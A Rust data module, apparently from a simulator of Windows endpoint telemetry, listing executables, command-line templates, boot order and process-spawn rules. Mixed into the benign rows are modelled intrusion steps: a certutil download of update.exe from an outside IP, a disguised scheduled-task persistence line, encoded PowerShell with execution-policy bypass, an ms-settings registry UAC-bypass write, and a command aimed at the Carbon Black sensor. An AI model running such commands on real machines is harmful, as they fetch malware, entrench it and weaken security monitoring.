//! Executables, how Windows starts them at boot, and who launches whom afterwards.

use super::{Account, DllSet, Life, Profile, Vendor};

/// One executable in one role (chrome's browser and renderer processes are two rows with the same
/// path, because they behave differently).
#[derive(Debug)]
pub(crate) struct Image {
    /// File name, as in `process_name` of notifications.
    pub exe: &'static str,
    /// Lower-case full path, as the sensor reports it.
    pub path: &'static str,
    /// FileDescription of the version resource.
    pub desc: &'static str,
    pub vendor: Vendor,
    pub account: Account,
    pub profile: Profile,
    pub dlls: DllSet,
    pub life: Life,
    /// 64-bit PE (else a WOW64 / x86 binary).
    pub x64: bool,
    /// Command line templates, one drawn per process.
    pub cmd: &'static [&'static str],
}

const W7: u8 = 1;
const W10: u8 = 2;
const SRV: u8 = 4;
const ALL: u8 = W7 | W10 | SRV;
const WS: u8 = W7 | W10;
const NT10: u8 = W10 | SRV;

macro_rules! images {
    ($($id:ident: $exe:literal, $path:literal, $desc:literal, $vendor:ident, $acct:ident,
       $profile:ident, $dlls:ident, $life:expr, $x64:literal, [$($cmd:literal),+ $(,)?];)*) => {
        /// Index into [`IMAGES`].
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        #[repr(u16)]
        pub(crate) enum Img { $($id),* }

        pub(crate) static IMAGES: &[Image] = &[$(Image {
            exe: $exe,
            path: $path,
            desc: $desc,
            vendor: Vendor::$vendor,
            account: Account::$acct,
            profile: Profile::$profile,
            dlls: DllSet::$dlls,
            life: $life,
            x64: $x64,
            cmd: &[$($cmd),+],
        }),*];
    };
}

impl Img {
    pub(crate) fn get(self) -> &'static Image {
        &IMAGES[self as usize]
    }
}

images! {
    Idle: "ntoskrnl.exe", r"c:\windows\system32\ntoskrnl.exe", "NT Kernel & System", Windows, System, Quiet, Kernel, None, true, [""];
    System: "ntoskrnl.exe", r"c:\windows\system32\ntoskrnl.exe", "NT Kernel & System", Windows, System, Quiet, Kernel, None, true, [""];
    Registry: "registry", r"c:\windows\system32\ntoskrnl.exe", "NT Kernel & System", Windows, System, Quiet, Kernel, None, true, [""];
    Smss: "smss.exe", r"c:\windows\system32\smss.exe", "Windows Session Manager", Windows, System, Quiet, Native, None, true, [r"\SystemRoot\System32\smss.exe"];
    SmssInstance: "smss.exe", r"c:\windows\system32\smss.exe", "Windows Session Manager", Windows, System, Quiet, Native, Some(2), true, [r"\SystemRoot\System32\smss.exe 000000b0 00000080 "];
    Csrss: "csrss.exe", r"c:\windows\system32\csrss.exe", "Client Server Runtime Process", Windows, System, Quiet, Native, None, true, [r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16"];
    Wininit: "wininit.exe", r"c:\windows\system32\wininit.exe", "Windows Start-Up Application", Windows, System, Quiet, Base, None, true, ["wininit.exe"];
    Winlogon: "winlogon.exe", r"c:\windows\system32\winlogon.exe", "Windows Logon Application", Windows, System, Shell, Gui, None, true, ["winlogon.exe"];
    Services: "services.exe", r"c:\windows\system32\services.exe", "Services and Controller app", Windows, System, Service, Base, None, true, [r"C:\Windows\system32\services.exe"];
    Lsass: "lsass.exe", r"c:\windows\system32\lsass.exe", "Local Security Authority Process", Windows, System, Service, Net, None, true, [r"C:\Windows\system32\lsass.exe"];
    Fontdrvhost: "fontdrvhost.exe", r"c:\windows\system32\fontdrvhost.exe", "Usermode Font Driver Host", Windows, Umfd, Quiet, Base, None, true, [r#""fontdrvhost.exe""#];
    Svchost: "svchost.exe", r"c:\windows\system32\svchost.exe", "Host Process for Windows Services", Windows, System, Service, Com, None, true, [r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv", r"C:\Windows\System32\svchost.exe -k LocalSystemNetworkRestricted -p -s DeviceAssociationService", r"C:\Windows\system32\svchost.exe -k LocalService -p -s DPS", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Appinfo", r"C:\Windows\System32\svchost.exe -k wsappx -p -s ClipSVC"];
    Dwm: "dwm.exe", r"c:\windows\system32\dwm.exe", "Desktop Window Manager", Windows, Dwm, Quiet, Gui, None, true, [r#""dwm.exe""#];
    Spoolsv: "spoolsv.exe", r"c:\windows\system32\spoolsv.exe", "Spooler SubSystem App", Windows, System, Service, Net, None, true, [r"C:\Windows\System32\spoolsv.exe"];
    MsMpEng: "msmpeng.exe", r"c:\programdata\microsoft\windows defender\platform\4.18.23110.3-0\msmpeng.exe", "Antimalware Service Executable", Windows, System, Security, Net, None, true, [r#""C:\ProgramData\Microsoft\Windows Defender\platform\4.18.23110.3-0\MsMpEng.exe""#];
    NisSrv: "nissrv.exe", r"c:\programdata\microsoft\windows defender\platform\4.18.23110.3-0\nissrv.exe", "Microsoft Network Realtime Inspection Service", Windows, LocalService, Service, Net, None, true, [r#""C:\ProgramData\Microsoft\Windows Defender\platform\4.18.23110.3-0\NisSrv.exe""#];
    CbSensor: "cb.exe", r"c:\windows\carbonblack\cb.exe", "Carbon Black Sensor Service", CarbonBlack, System, Service, Net, None, true, [r"C:\Windows\CarbonBlack\cb.exe"];
    VmTools: "vmtoolsd.exe", r"c:\program files\vmware\vmware tools\vmtoolsd.exe", "VMware Tools Core Service", Vmware, System, Service, VmTools, None, true, [r#""C:\Program Files\VMware\VMware Tools\vmtoolsd.exe""#];
    VmToolsUser: "vmtoolsd.exe", r"c:\program files\vmware\vmware tools\vmtoolsd.exe", "VMware Tools Core Service", Vmware, User, Quiet, VmTools, None, true, [r#""C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr"#];
    SearchIndexer: "searchindexer.exe", r"c:\windows\system32\searchindexer.exe", "Microsoft Windows Search Indexer", Windows, System, Search, Com, None, true, [r"C:\Windows\system32\SearchIndexer.exe /Embedding"];
    SearchProtocolHost: "searchprotocolhost.exe", r"c:\windows\system32\searchprotocolhost.exe", "Microsoft Windows Search Protocol Host", Windows, System, Search, Com, Some(90), true, [r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{num} Global\UsGthrCtrlFltPipeMssGthrPipe{num} 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" "#];
    SearchFilterHost: "searchfilterhost.exe", r"c:\windows\system32\searchfilterhost.exe", "Microsoft Windows Search Filter Host", Windows, System, Search, Com, Some(60), true, [r#""C:\Windows\system32\SearchFilterHost.exe" 0 {num} {num} {num} 65536 {num} "#];
    WmiPrvSe: "wmiprvse.exe", r"c:\windows\system32\wbem\wmiprvse.exe", "WMI Provider Host", Windows, NetworkService, Service, Com, Some(300), true, [r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding"];
    TaskhostW: "taskhostw.exe", r"c:\windows\system32\taskhostw.exe", "Host Process for Windows Tasks", Windows, User, Service, Com, None, true, ["taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "taskhostw.exe"];
    Taskhost: "taskhost.exe", r"c:\windows\system32\taskhost.exe", "Host Process for Windows Tasks", Windows, User, Service, Com, None, true, ["taskhost.exe "];
    Taskeng: "taskeng.exe", r"c:\windows\system32\taskeng.exe", "Task Scheduler Engine", Windows, System, Service, Com, Some(120), true, [r"taskeng.exe {guid} S-1-5-18:NT AUTHORITY\System:Service:"];
    Sihost: "sihost.exe", r"c:\windows\system32\sihost.exe", "Shell Infrastructure Host", Windows, User, Shell, Gui, None, true, ["sihost.exe"];
    Userinit: "userinit.exe", r"c:\windows\system32\userinit.exe", "Userinit Logon Application", Windows, User, Quiet, Gui, Some(3), true, [r"C:\Windows\system32\userinit.exe"];
    Explorer: "explorer.exe", r"c:\windows\explorer.exe", "Windows Explorer", Windows, User, Shell, Shell, None, true, [r"C:\Windows\Explorer.EXE"];
    RuntimeBroker: "runtimebroker.exe", r"c:\windows\system32\runtimebroker.exe", "Runtime Broker", Windows, User, Service, Com, None, true, [r"C:\Windows\System32\RuntimeBroker.exe -Embedding"];
    Ctfmon: "ctfmon.exe", r"c:\windows\system32\ctfmon.exe", "CTF Loader", Windows, User, Quiet, Gui, None, true, [r#""ctfmon.exe""#];
    StartMenu: "startmenuexperiencehost.exe", r"c:\windows\systemapps\microsoft.windows.startmenuexperiencehost_cw5n1h2txyewy\startmenuexperiencehost.exe", "Windows Start Experience Host", Windows, User, Shell, Gui, None, true, [r#""C:\Windows\SystemApps\Microsoft.Windows.StartMenuExperienceHost_cw5n1h2txyewy\StartMenuExperienceHost.exe" -ServerName:App.AppXywbrabmsek0gm3tkwpr5kwzbs55tkqay.mca"#];
    SecurityHealth: "securityhealthsystray.exe", r"c:\windows\system32\securityhealthsystray.exe", "Windows Security notification icon", Windows, User, Quiet, Gui, None, true, [r#""C:\Windows\System32\SecurityHealthSystray.exe" "#];
    OneDrive: "onedrive.exe", r"c:\users\{u}\appdata\local\microsoft\onedrive\onedrive.exe", "Microsoft OneDrive", MsOther, User, Updater, Net, None, false, [r#""C:\Users\{U}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#];
    LogonUI: "logonui.exe", r"c:\windows\system32\logonui.exe", "Windows Logon User Interface Host", Windows, System, Quiet, Gui, Some(40), true, [r#""LogonUI.exe" /flags:0x0 /state0:0xa3a1f055 /state1:0x41c64e6d"#, r#""LogonUI.exe" /flags:0x0"#];
    Conhost: "conhost.exe", r"c:\windows\system32\conhost.exe", "Console Window Host", Windows, User, Quiet, Base, Some(240), true, [r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"\??\C:\Windows\system32\conhost.exe 0x4"];
    Cmd: "cmd.exe", r"c:\windows\system32\cmd.exe", "Windows Command Processor", Windows, User, Console, Base, Some(300), true, [r#""C:\Windows\system32\cmd.exe" "#, r#"C:\Windows\system32\cmd.exe /c "{bat}""#, r"cmd.exe /c whoami /all", r#"C:\Windows\system32\cmd.exe /d /c "{bat}""#];
    PowerShell: "powershell.exe", r"c:\windows\system32\windowspowershell\v1.0\powershell.exe", "Windows PowerShell", Windows, User, Script, Dotnet, Some(180), true, [r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" "#, r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Users\{U}\Documents\scripts\{script}", r#"powershell.exe -nop -w hidden -c "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10""#, r"powershell.exe -ExecutionPolicy Bypass -EncodedCommand {b64}"];
    Whoami: "whoami.exe", r"c:\windows\system32\whoami.exe", "whoami - displays logged on user information", Windows, User, Tool, Base, Some(1), true, ["whoami", "whoami /all", "whoami /priv"];
    Ipconfig: "ipconfig.exe", r"c:\windows\system32\ipconfig.exe", "IP Configuration Utility", Windows, User, Tool, Net, Some(1), true, ["ipconfig /all", "ipconfig", "ipconfig /flushdns"];
    Net: "net.exe", r"c:\windows\system32\net.exe", "Net Command", Windows, User, Tool, Net, Some(2), true, ["net use", "net user", "net localgroup administrators", r"net use Z: \\fileserver01\shared"];
    Sc: "sc.exe", r"c:\windows\system32\sc.exe", "Service Control Manager Configuration Tool", Windows, User, Tool, Base, Some(1), true, ["sc query", "sc  control carbonblack 200", "sc qc wuauserv"];
    Tasklist: "tasklist.exe", r"c:\windows\system32\tasklist.exe", "Lists the current running tasks.", Windows, User, Tool, Com, Some(2), true, ["tasklist", "tasklist /svc"];
    Reg: "reg.exe", r"c:\windows\system32\reg.exe", "Registry Console Tool", Windows, User, Tool, Base, Some(1), true, [r"reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run", r"reg add HKCU\Software\Classes\ms-settings\shell\open\command /f"];
    Rundll32: "rundll32.exe", r"c:\windows\system32\rundll32.exe", "Windows host process (Rundll32)", Windows, System, Tool, Com, Some(20), true, [r"C:\Windows\system32\rundll32.exe /d acproxy.dll,PerformAutochkOperations", r"C:\Windows\system32\rundll32.exe C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 IEFrame:0000000000000000"];
    Notepad: "notepad.exe", r"c:\windows\system32\notepad.exe", "Notepad", Windows, User, Office, Gui, Some(600), true, [r#""C:\Windows\system32\notepad.exe" "#, r#""C:\Windows\system32\NOTEPAD.EXE" C:\Users\{U}\Documents\{txt}"#];
    Mmc: "mmc.exe", r"c:\windows\system32\mmc.exe", "Microsoft Management Console", Windows, User, Tool, Gui, Some(400), true, [r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\services.msc" "#, r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\eventvwr.msc" /s"#];
    Msiexec: "msiexec.exe", r"c:\windows\system32\msiexec.exe", "Windows\u{ae} installer", Windows, System, Installer, Com, Some(240), true, [r"C:\Windows\system32\msiexec.exe /V", r"C:\Windows\System32\MsiExec.exe -Embedding {hex32} C"];
    Wusa: "trustedinstaller.exe", r"c:\windows\servicing\trustedinstaller.exe", "Windows Modules Installer", Windows, System, Installer, Com, Some(600), true, [r"C:\Windows\servicing\TrustedInstaller.exe"];
    Consent: "consent.exe", r"c:\windows\system32\consent.exe", "Consent UI for administrative applications", Windows, System, Quiet, Gui, Some(8), true, ["consent.exe {num} 288 000001F2A1B3C4D0"];
    Backgroundtaskhost: "backgroundtaskhost.exe", r"c:\windows\system32\backgroundtaskhost.exe", "Background Task Host", Windows, User, Service, Com, Some(30), true, [r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca"#];
    MpCmdRun: "mpcmdrun.exe", r"c:\program files\windows defender\mpcmdrun.exe", "Microsoft Malware Protection Command Line Utility", Windows, System, Security, Net, Some(60), true, [r#""C:\Program Files\Windows Defender\MpCmdRun.exe" -wdenable"#, r#""C:\Program Files\Windows Defender\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges"#];
    WerFault: "werfault.exe", r"c:\windows\system32\werfault.exe", "Windows Problem Reporting", Windows, User, Tool, Com, Some(15), true, [r"C:\Windows\system32\WerFault.exe -u -p {num} -s {num}"];
    Chrome: "chrome.exe", r"c:\program files\google\chrome\application\chrome.exe", "Google Chrome", Google, User, Browser, Browser, None, true, [r#""C:\Program Files\Google\Chrome\Application\chrome.exe" "#, r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default"#];
    ChromeRenderer: "chrome.exe", r"c:\program files\google\chrome\application\chrome.exe", "Google Chrome", Google, User, Browser, Browser, Some(900), true, [r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=2 --enable-main-frame-before-activation --renderer-client-id={num} --time-ticks-at-unix-epoch=-1709539200{num} --launch-time-ticks={num} --field-trial-handle=1896,i,{num},{num},262144 --mojo-platform-channel-handle={num} /prefetch:1"#, r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=1896,i,{num},{num},262144 --mojo-platform-channel-handle={num} /prefetch:8"#, r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --field-trial-handle=1896,i,{num},{num},262144 --mojo-platform-channel-handle={num} /prefetch:2"#];
    GoogleUpdate: "googleupdate.exe", r"c:\program files (x86)\google\update\googleupdate.exe", "Google Installer", Google, System, Updater, Net, Some(45), false, [r#""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler"#, r#""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /c"#, r#""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /svc"#];
    Firefox: "firefox.exe", r"c:\program files\mozilla firefox\firefox.exe", "Firefox", Mozilla, User, Browser, Browser, None, true, [r#""C:\Program Files\Mozilla Firefox\firefox.exe" "#];
    Edge: "msedge.exe", r"c:\program files (x86)\microsoft\edge\application\msedge.exe", "Microsoft Edge", MsOther, User, Browser, Browser, None, true, [r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start /prefetch:5"#, r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" "#];
    Iexplore: "iexplore.exe", r"c:\program files\internet explorer\iexplore.exe", "Internet Explorer", Windows, User, Browser, Browser, Some(1200), true, [r#""C:\Program Files\Internet Explorer\iexplore.exe" "#, r#""C:\Program Files\Internet Explorer\iexplore.exe" SCODEF:{num} CREDAT:{num} /prefetch:2"#];
    Outlook: "outlook.exe", r"c:\program files\microsoft office\root\office16\outlook.exe", "Microsoft Outlook", MsOffice, User, Mail, Office, None, true, [r#""C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" "#, r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#];
    Winword: "winword.exe", r"c:\program files\microsoft office\root\office16\winword.exe", "Microsoft Word", MsOffice, User, Office, Office, Some(1800), true, [r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{U}\Documents\{docx}" /o """#, r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{U}\Downloads\{doc}""#];
    Excel: "excel.exe", r"c:\program files\microsoft office\root\office16\excel.exe", "Microsoft Excel", MsOffice, User, Office, Office, Some(1800), true, [r#""C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\{U}\Documents\{xlsx}""#];
    Teams: "ms-teams.exe", r"c:\program files\windowsapps\msteams_23335.232.2637.4844_x64__8wekyb3d8bbwe\ms-teams.exe", "Microsoft Teams", MsOther, User, Chat, Browser, None, true, [r#""C:\Program Files\WindowsApps\MSTeams_23335.232.2637.4844_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated"#];
    Zoom: "zoom.exe", r"c:\users\{u}\appdata\roaming\zoom\bin\zoom.exe", "Zoom Meetings", Zoom, User, Chat, Net, Some(2400), false, [r#""C:\Users\{U}\AppData\Roaming\Zoom\bin\Zoom.exe" "--url=zoommtg://zoom.us/join?action=join&confno={num}""#];
    Slack: "slack.exe", r"c:\users\{u}\appdata\local\slack\app-4.35.131\slack.exe", "Slack", Slack, User, Chat, Browser, None, true, [r#""C:\Users\{U}\AppData\Local\slack\app-4.35.131\slack.exe" --process-start-args --startup"#];
    AcroRd32: "acrord32.exe", r"c:\program files (x86)\adobe\acrobat reader dc\reader\acrord32.exe", "Adobe Acrobat Reader", Adobe, User, Office, Office, Some(900), false, [r#""C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader\AcroRd32.exe" "C:\Users\{U}\Downloads\{pdf}""#];
    NotepadPp: "notepad++.exe", r"c:\program files\notepad++\notepad++.exe", "Notepad++", NotepadPlusPlus, User, Office, Gui, Some(1500), true, [r#""C:\Program Files\Notepad++\notepad++.exe" "C:\Users\{U}\Documents\{txt}""#];
    SevenZip: "7zfm.exe", r"c:\program files\7-zip\7zfm.exe", "7-Zip File Manager", SevenZip, User, Installer, Gui, Some(120), true, [r#""C:\Program Files\7-Zip\7zFM.exe" "C:\Users\{U}\Downloads\{zip}""#];
    Putty: "putty.exe", r"c:\users\{u}\downloads\putty.exe", "SSH, Telnet, Rlogin, and SUPDUP client", Putty, User, Chat, Net, Some(1800), true, [r#""C:\Users\{U}\Downloads\putty.exe" "#, r#""C:\Users\{U}\Downloads\putty.exe" -ssh admin@10.20.0.15"#];
    ProcExp: "procexp64.exe", r"c:\users\{u}\appdata\local\temp\procexp64.exe", "Sysinternals Process Explorer", Sysinternals, User, Tool, Gui, Some(900), true, [r#""C:\Users\{U}\AppData\Local\Temp\procexp64.exe" "#];
    Mstsc: "mstsc.exe", r"c:\windows\system32\mstsc.exe", "Remote Desktop Connection", Windows, User, Chat, Net, Some(1800), true, [r#""C:\Windows\system32\mstsc.exe" /v:srv-app-02"#, r#""C:\Windows\system32\mstsc.exe" "#];
    Dropper: "invoice_viewer.exe", r"c:\users\{u}\appdata\local\temp\invoice_viewer.exe", "", Unsigned, User, Script, Net, Some(45), false, [r#""C:\Users\{U}\AppData\Local\Temp\invoice_viewer.exe" "#];
    Updater: "update.exe", r"c:\users\{u}\appdata\roaming\microsoft\windows\update.exe", "", Unsigned, User, Script, Net, Some(600), false, [r#""C:\Users\{U}\AppData\Roaming\Microsoft\Windows\update.exe" /q"#];
    Sqlservr: "sqlservr.exe", r"c:\program files\microsoft sql server\mssql15.mssqlserver\mssql\binn\sqlservr.exe", "SQL Server Windows NT - 64 Bit", MsOther, NetworkService, Service, Net, None, true, [r#""C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER"#];
    W3wp: "w3wp.exe", r"c:\windows\system32\inetsrv\w3wp.exe", "IIS Worker Process", Windows, NetworkService, Service, Net, Some(3600), true, [r#"c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{guid} -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config" -w "" -m 0 -t 20 -ta 0"#];
    Upgrade: "upgrade.exe", r"c:\windows\carbonblack\upgrade\upgrade.exe", "Carbon Black Sensor Upgrade", CarbonBlack, System, Installer, Base, Some(30), true, [r"C:\Windows\CarbonBlack\Upgrade\upgrade.exe -u 4"];
    Wuauclt: "wuauclt.exe", r"c:\windows\system32\wuauclt.exe", "Windows Update", Windows, System, Updater, Net, Some(120), true, [r#""C:\Windows\system32\wuauclt.exe" /RunHandlerComServer"#];
    Gpupdate: "gpupdate.exe", r"c:\windows\system32\gpupdate.exe", "Microsoft\u{ae} Windows Group Policy Update Utility", Windows, User, Tool, Net, Some(20), true, ["gpupdate /force", "gpupdate"];
    Schtasks: "schtasks.exe", r"c:\windows\system32\schtasks.exe", "Task Scheduler Configuration Tool", Windows, User, Tool, Com, Some(2), true, [r#"schtasks /create /sc minute /mo 30 /tn "OneDrive Standalone Update Task" /tr "C:\Users\{U}\AppData\Roaming\Microsoft\Windows\update.exe /q" /f"#, "schtasks /query /fo LIST"];
    Certutil: "certutil.exe", r"c:\windows\system32\certutil.exe", "CertUtil.exe", Windows, User, Tool, Net, Some(5), true, ["certutil -urlcache -split -f http://185.220.101.47/a/update.exe C:\\Users\\{U}\\AppData\\Roaming\\Microsoft\\Windows\\update.exe", "certutil -hashfile C:\\Users\\{U}\\Downloads\\{zip} SHA256"];
}

/// A process Windows starts by itself. `parent` indexes [`BOOT`]; `at_ms` is the creation time
/// after power-on; `os` is the mask of releases that run it.
#[derive(Debug)]
pub(crate) struct Boot {
    pub img: Img,
    pub parent: Option<u8>,
    pub at_ms: u32,
    pub os: u8,
    /// Overrides the image's command line (svchost groups).
    pub cmd: Option<&'static str>,
    pub account: Option<super::Account>,
    /// Part of the interactive logon (absent on servers nobody logged on to).
    pub logon: bool,
}

const fn b(img: Img, parent: u8, at_ms: u32, os: u8) -> Boot {
    Boot {
        img,
        parent: if parent == NONE { None } else { Some(parent) },
        at_ms,
        os,
        cmd: None,
        account: None,
        logon: false,
    }
}

const fn svc(parent: u8, at_ms: u32, os: u8, cmd: &'static str, account: super::Account) -> Boot {
    Boot {
        img: Img::Svchost,
        parent: Some(parent),
        at_ms,
        os,
        cmd: Some(cmd),
        account: Some(account),
        logon: false,
    }
}

const fn logon(img: Img, parent: u8, at_ms: u32, os: u8) -> Boot {
    Boot {
        logon: true,
        ..b(img, parent, at_ms, os)
    }
}

const NONE: u8 = 255;

use super::Account::{LocalService as LS, NetworkService as NS, System as SY};

/// Boot order of the three releases. Rows 4 and 7 are the per-session smss instances that exit
/// once their session is up, and row 31 is userinit: their children outlive them, which is why
/// a sensor starting later reports parents it never saw.
pub(crate) static BOOT: &[Boot] = &[
    b(Img::Idle, NONE, 0, ALL),          // 0
    b(Img::System, 0, 10, ALL),          // 1
    b(Img::Registry, 1, 40, NT10),       // 2
    b(Img::Smss, 1, 650, ALL),           // 3
    b(Img::SmssInstance, 3, 4_100, ALL), // 4
    b(Img::Csrss, 4, 4_300, ALL),        // 5
    b(Img::Wininit, 4, 4_700, ALL),      // 6
    b(Img::SmssInstance, 3, 4_800, ALL), // 7
    b(Img::Csrss, 7, 4_900, ALL),        // 8
    b(Img::Winlogon, 7, 5_100, ALL),     // 9
    b(Img::Services, 6, 5_300, ALL),     // 10
    b(Img::Lsass, 6, 5_350, ALL),        // 11
    b(Img::Fontdrvhost, 6, 5_500, NT10), // 12
    b(Img::Fontdrvhost, 9, 5_520, NT10), // 13
    svc(
        10,
        5_900,
        ALL,
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
        SY,
    ), // 14
    svc(
        10,
        6_200,
        ALL,
        r"C:\Windows\system32\svchost.exe -k RPCSS -p",
        NS,
    ), // 15
    b(Img::Dwm, 9, 6_400, NT10),         // 16
    svc(
        10,
        6_800,
        ALL,
        r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p",
        LS,
    ), // 17
    svc(
        10,
        7_000,
        ALL,
        r"C:\Windows\system32\svchost.exe -k netsvcs -p",
        SY,
    ), // 18
    svc(
        10,
        7_300,
        ALL,
        r"C:\Windows\system32\svchost.exe -k LocalService -p",
        LS,
    ), // 19
    svc(
        10,
        7_600,
        ALL,
        r"C:\Windows\System32\svchost.exe -k LocalSystemNetworkRestricted -p",
        SY,
    ), // 20
    svc(
        10,
        8_100,
        ALL,
        r"C:\Windows\system32\svchost.exe -k NetworkService -p",
        NS,
    ), // 21
    svc(
        10,
        8_400,
        NT10,
        r"C:\Windows\system32\svchost.exe -k LocalServiceNoNetworkFirewall -p",
        LS,
    ), // 22
    b(Img::Spoolsv, 10, 9_200, ALL),     // 23
    svc(
        10,
        9_600,
        NT10,
        r"C:\Windows\System32\svchost.exe -k utcsvc -p",
        SY,
    ), // 24
    b(Img::MsMpEng, 10, 10_500, NT10),   // 25
    b(Img::VmTools, 10, 11_000, ALL),    // 26
    b(Img::CbSensor, 10, 11_800, ALL),   // 27
    b(Img::SearchIndexer, 10, 14_000, WS), // 28
    b(Img::NisSrv, 10, 16_000, NT10),    // 29
    b(Img::WmiPrvSe, 14, 18_000, ALL),   // 30
    logon(Img::Userinit, 9, 62_000, ALL), // 31
    logon(Img::Explorer, 31, 63_500, ALL), // 32
    logon(Img::Sihost, 18, 62_500, NT10), // 33
    logon(Img::TaskhostW, 18, 62_800, NT10), // 34
    logon(Img::Taskhost, 18, 62_800, W7), // 35
    logon(Img::RuntimeBroker, 14, 66_000, W10), // 36
    logon(Img::StartMenu, 14, 66_500, W10), // 37
    logon(Img::Ctfmon, 34, 64_000, NT10), // 38
    logon(Img::SecurityHealth, 32, 71_000, W10), // 39
    logon(Img::VmToolsUser, 32, 71_500, ALL), // 40
    logon(Img::OneDrive, 32, 73_000, W10), // 41
    b(Img::Dwm, 20, 62_200, W7),         // 42
    b(Img::Sqlservr, 10, 12_500, SRV),   // 43
    svc(
        10,
        13_000,
        SRV,
        r"C:\Windows\system32\svchost.exe -k iissvcs",
        SY,
    ), // 44
    b(Img::W3wp, 44, 40_000, SRV),       // 45
    logon(Img::Outlook, 32, 95_000, WS), // 46
    logon(Img::Chrome, 32, 120_000, WS), // 47
];

/// Something a running process launches during the window. The generator picks rules by weight
/// and a live process of the parent image; `os` masks the releases where it happens.
#[derive(Debug)]
pub(crate) struct Spawn {
    pub parent: Img,
    pub child: Img,
    pub weight: u16,
    pub os: u8,
}

const fn s(parent: Img, child: Img, weight: u16, os: u8) -> Spawn {
    Spawn {
        parent,
        child,
        weight,
        os,
    }
}

pub(crate) static SPAWNS: &[Spawn] = &[
    s(Img::Explorer, Img::Chrome, 40, WS),
    s(Img::Chrome, Img::ChromeRenderer, 160, ALL),
    s(Img::Explorer, Img::Outlook, 6, WS),
    s(Img::Explorer, Img::Winword, 30, WS),
    s(Img::Outlook, Img::Winword, 12, WS),
    s(Img::Explorer, Img::Excel, 22, WS),
    s(Img::Outlook, Img::AcroRd32, 8, WS),
    s(Img::Explorer, Img::AcroRd32, 10, WS),
    s(Img::Explorer, Img::Notepad, 18, ALL),
    s(Img::Explorer, Img::NotepadPp, 8, WS),
    s(Img::Explorer, Img::Cmd, 22, ALL),
    s(Img::Cmd, Img::PowerShell, 10, ALL),
    s(Img::Explorer, Img::PowerShell, 10, ALL),
    s(Img::Cmd, Img::Whoami, 6, ALL),
    s(Img::Cmd, Img::Ipconfig, 8, ALL),
    s(Img::Cmd, Img::Net, 6, ALL),
    s(Img::Cmd, Img::Tasklist, 4, ALL),
    s(Img::Cmd, Img::Sc, 4, ALL),
    s(Img::Cmd, Img::Reg, 3, ALL),
    s(Img::Cmd, Img::Gpupdate, 3, ALL),
    s(Img::PowerShell, Img::Whoami, 4, ALL),
    s(Img::PowerShell, Img::Ipconfig, 3, ALL),
    s(Img::PowerShell, Img::Net, 3, ALL),
    s(Img::PowerShell, Img::Schtasks, 2, ALL),
    s(Img::Explorer, Img::Firefox, 6, WS),
    s(Img::Explorer, Img::Edge, 8, W10),
    s(Img::Explorer, Img::Iexplore, 6, W7),
    s(Img::Explorer, Img::Teams, 4, W10),
    s(Img::Explorer, Img::Zoom, 5, WS),
    s(Img::Explorer, Img::Slack, 3, WS),
    s(Img::Explorer, Img::SevenZip, 4, WS),
